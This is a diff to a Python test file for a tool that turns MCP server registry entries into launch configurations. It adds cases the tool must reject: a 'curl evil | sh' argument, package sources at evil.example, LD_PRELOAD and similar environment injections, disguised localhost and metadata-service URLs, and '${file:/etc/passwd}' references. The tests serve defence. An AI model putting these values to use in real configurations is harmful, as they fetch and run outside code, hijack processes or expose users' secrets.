@@ -18,12 +18,10 @@ NPM = {"registryType": "npm", "identifier": "@example/files", "version": "1.0.2"
 PYPI = {"registryType": "pypi", "identifier": "mcp-time", "version": "0.5.0", "transport": {"type": "stdio"}}
 
 
-def offers(
-    *packages: dict[str, Any], remotes: Any = (), programs: Any = ALL, may_be_near: bool = False
-) -> list[Offer | Unusable]:
+def offers(*packages: dict[str, Any], remotes: Any = (), programs: Any = ALL) -> list[Offer | Unusable]:
     """What an entry with these packages offers."""
     told = {"name": "io.example/files", "packages": packages, "remotes": remotes}
-    return offers_of(msgspec.convert(told, Server), programs, may_be_near=may_be_near)
+    return offers_of(msgspec.convert(told, Server), programs)
 
 
 def row(*, values: dict[str, str] | None = None, programs: Any = ALL, **package: Any) -> dict[str, object]:
@@ -87,6 +85,26 @@ def test_a_package_is_run_in_the_version_that_is_listed() -> None:
         ({"runtimeArguments": [positional("evil")]}, "something else"),
         ({**PYPI, "runtimeArguments": [named("--index-url", "http://evil.example")]}, "--index-url"),
         ({**PYPI, "runtimeArguments": [named("--from", "evil")]}, "something else"),
+        ({**PYPI, "runtimeArguments": [named("--from", "git+https://evil.example/mcp-time")]}, "something else"),
+        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time @ https://evil.example/x")]}, "something else"),
+        ({**PYPI, "runtimeArguments": [named("--with", "evil")]}, "'--with'"),
+        ({**PYPI, "runtimeArguments": [named("--python", "/tmp/evil")]}, "'--python'"),
+        ({**PYPI, "runtimeArguments": [named("--prerelease", "allow")]}, "'--prerelease'"),
+        ({**PYPI, "runtimeArguments": [positional("--with=evil")]}, "'--with'"),
+        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("python")]}, "start 'python'"),
+        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("/tmp/mcp-time")]}, "/tmp/mcp-time"),
+        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time")]}, "start ''"),
+        ({"runtimeArguments": [named("--package", "@example/files"), named("-p", "evil")]}, "more than one package"),
+        ({"runtimeArguments": [named("--package", "@example/files"), positional("node")]}, "start 'node'"),
+        ({"runtimeArguments": [named("-c", "curl evil | sh")]}, "'-c'"),
+        ({"runtimeArguments": [named("--node-options", "--require=/tmp/x")]}, "'--node-options'"),
+        ({"environmentVariables": [{"name": "SOMETHING", "value": "x"}]}, "not known as a variable of its own"),
+        ({"environmentVariables": [{"name": "GIT_SSH_COMMAND", "default": "evil"}]}, "sets GIT_SSH_COMMAND"),
+        ({"environmentVariables": [{"name": "OPENSSL_CONF", "value": "/tmp/x"}]}, "sets OPENSSL_CONF"),
+        ({"environmentVariables": [{"name": "_JAVA_OPTIONS", "value": "-javaagent:x"}]}, "_JAVA_OPTIONS"),
+        ({"environmentVariables": [{"name": "PYTHONWARNINGS", "value": "x"}]}, "PYTHONWARNINGS"),
+        ({"environmentVariables": [{"name": "PYTHON_SERVER_API_KEY", "value": "x"}]}, "PYTHON_SERVER"),
+        ({"environmentVariables": [{"name": "LD_PRELOAD"}]}, "asks for LD_PRELOAD"),
     ],
 )
 def test_what_cannot_be_run_is_said_with_its_reason(package: dict[str, Any], told: str) -> None:
@@ -160,6 +178,7 @@ def test_a_remote_server_has_its_url_and_its_headers() -> None:
     assert offer.row({"tenant": "me", "token": "${keyring:token}"}) == {
         "type": "http",
         "url": "https://api.example.com/me/mcp",
+        "internet_only": True,
         "headers": {"Authorization": "Bearer ${keyring:token}"},
     }
     for bad in (
@@ -168,6 +187,7 @@ def test_a_remote_server_has_its_url_and_its_headers() -> None:
         {"type": "ws"},
         {"headers": [{"name": "A: b\r\nC"}]},
         {"url": "https://{x}"},
+        {"url": "http://①②⑦.0.0.1/mcp"},
         {"url": "https://127.0.0.{x}/mcp", "variables": {"x": {"default": "1"}}},
         {"url": "https://evil.example\\.example.com/mcp"},
     ):
@@ -180,6 +200,8 @@ def test_a_remote_server_has_its_url_and_its_headers() -> None:
     [
         "127.0.0.1",
         "localhost:80",
+        "LOCALHOST",
+        "a.LocalHost.",
         "[::1]",
         "192.168.1.1",
         "169.254.169.254",
@@ -194,7 +216,6 @@ def test_an_address_of_this_machine_or_its_networks_is_no_registrys_to_give(host
     [refused] = offers(remotes=remotes)
     assert isinstance(refused, Unusable)
     assert "of this machine or its networks" in refused.reason
-    assert isinstance(offers(remotes=remotes, may_be_near=True)[0], Offer)
 
 
 @pytest.mark.parametrize(
@@ -211,11 +232,24 @@ def test_a_variable_that_a_person_gives_is_theirs() -> None:
     assert row(environmentVariables=variables)["env"] == {"PYTHONUNBUFFERED": "1"}
 
 
+@pytest.mark.parametrize(
+    "name",
+    """
+    FILES_ROOT EXAMPLE_HOME_PAGE NOTION_API_KEY GITHUB_PERSONAL_ACCESS_TOKEN SLACK_TEAM_ID AWS_REGION BRAVE_API_KEY
+    FASTMCP_LOG_LEVEL MCP_TRANSPORT LOG_LEVEL NODE_ENV PORT DB_HOST POSTGRES_URL OPENAI_BASE_URL OPENAI_MODEL
+    REQUEST_TIMEOUT_MS DISABLE_FILES READ_ONLY ENABLED_TOOLS
+    """.split(),  # noqa: SIM905 - as words they are read, as a list they are not
+)
+def test_variables_of_a_servers_own_may_have_a_value(name: str) -> None:
+    """Entries of common servers fix such variables: these servers could not be added."""
+    assert row(environmentVariables=[{"name": name, "value": "x"}])["env"] == {name: "x"}
+
+
 def test_what_the_runner_is_told_is_shown_with_its_value() -> None:
     """A user would read that a package is added, and not which."""
-    [offer] = offers({**PYPI, "runtimeArguments": [named("--with", "another")]})
+    [offer] = offers({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("mcp-time-cli")]})
     assert isinstance(offer, Offer)
-    assert offer.told == ("--with", "another")
+    assert offer.told == ("--from", "mcp-time", "mcp-time-cli")
 
 
 @pytest.mark.parametrize("text", ["${HOME}", "${file:/etc/passwd}", "${keyring:OTHER}", "$${x}", "$$${x}", "a${b"])
@@ -223,21 +257,21 @@ def test_no_text_of_a_registry_refers_to_anything_of_the_users(text: str) -> Non
     """A stranger's entry would have our configuration put the user's secrets on a command line."""
     made = row(
         packageArguments=[positional(text), named("--x", default=text)],
-        environmentVariables=[{"name": "A", "value": text}],
+        environmentVariables=[{"name": "A_URL", "value": text}],
     )
     args, env = made["args"], made["env"]
     assert isinstance(args, list)
     assert isinstance(env, dict)
-    for written in (args[2], args[4], env["A"]):
+    for written in (args[2], args[4], env["A_URL"]):
         assert _REFERENCE.sub(lambda found: "${" if found[0] == "$${" else pytest.fail(found[0]), written) == text
 
 
 def test_a_reference_is_not_made_where_two_texts_meet() -> None:
     """A `$` of the registry before a `{…}` of its own would be one, once they are put together."""
     variables = {"x": {"default": "{keyring:OTHER}"}}
-    made = row(environmentVariables=[{"name": "A", "value": "${x}", "variables": variables}])
-    assert made["env"] == {"A": "$${keyring:OTHER}"}
-    given = [{"name": "A", "value": "${x}", "variables": {"x": {"isRequired": True}}}]
+    made = row(environmentVariables=[{"name": "A_URL", "value": "${x}", "variables": variables}])
+    assert made["env"] == {"A_URL": "$${keyring:OTHER}"}
+    given = [{"name": "A_URL", "value": "${x}", "variables": {"x": {"isRequired": True}}}]
     assert "puts a $" in reason(environmentVariables=given)
 
 
